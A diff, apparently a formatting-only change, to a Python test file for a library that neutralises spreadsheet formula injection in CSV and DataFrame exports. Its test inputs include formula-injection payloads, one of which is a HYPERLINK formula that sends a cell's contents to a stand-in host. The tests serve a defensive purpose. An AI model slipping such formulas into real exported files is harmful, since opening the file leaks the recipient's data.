@@ -18,7 +18,15 @@ from trialkit._core.spreadsheet import (
     restore,
 )
 
-INJECTIONS = ["=1+2", "+SUM(1)", "@SUM(1)", "-2+3", "\tx", "\rx", '=HYPERLINK("http://x?l="&A1,"c")']
+INJECTIONS = [
+    "=1+2",
+    "+SUM(1)",
+    "@SUM(1)",
+    "-2+3",
+    "\tx",
+    "\rx",
+    '=HYPERLINK("http://x?l="&A1,"c")',
+]
 
 
 def _live(cell: str) -> bool:
@@ -51,13 +59,14 @@ def test_restore_inverts_neutralise(cell: str) -> None:
 def test_neutralise_csv_escapes_cells_and_keeps_the_rest_byte_for_byte() -> None:
     text = 'unit_id,arm,p\nu1,usual,0.5\n"=1+2",usual,-0.31\n"a,b",x,1\n'
     out = neutralise_csv(text)
-    assert out == "unit_id,arm,p\nu1,usual,0.5\n'=1+2,usual,-0.31\n\"a,b\",x,1\n"
+    assert out == 'unit_id,arm,p\nu1,usual,0.5\n\'=1+2,usual,-0.31\n"a,b",x,1\n'
     assert neutralise_csv("u1,usual,0.5\n") == "u1,usual,0.5\n"
 
 
 def test_frame_csv_escapes_text_but_keeps_negative_numbers() -> None:
-    frame = pd.DataFrame({"outcome": ["=1+2", "loneliness"], "estimate": [-0.31, 1.2],
-                          "note": ["@SUM(1)", None]})
+    frame = pd.DataFrame(
+        {"outcome": ["=1+2", "loneliness"], "estimate": [-0.31, 1.2], "note": ["@SUM(1)", None]}
+    )
     rows = list(csv.reader(io.StringIO(frame_csv(frame))))
     assert rows[1] == ["'=1+2", "-0.31", "'@SUM(1)"]
     assert rows[2] == ["loneliness", "1.2", ""]
